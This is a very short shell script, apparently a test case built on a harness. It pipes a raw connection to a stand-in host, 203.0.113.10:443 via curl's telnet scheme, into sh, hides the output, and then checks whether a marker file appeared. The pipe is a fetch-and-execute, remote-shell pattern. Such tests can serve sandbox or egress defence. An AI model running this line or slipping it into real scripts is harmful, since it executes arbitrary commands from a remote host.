#!/bin/sh
. /opt/case/case.sh

sleep 3 | curl -sN --max-time 8 telnet://203.0.113.10:443 | sh >/tmp/.out 2>&1 || true
test -e /tmp/reached
took_place
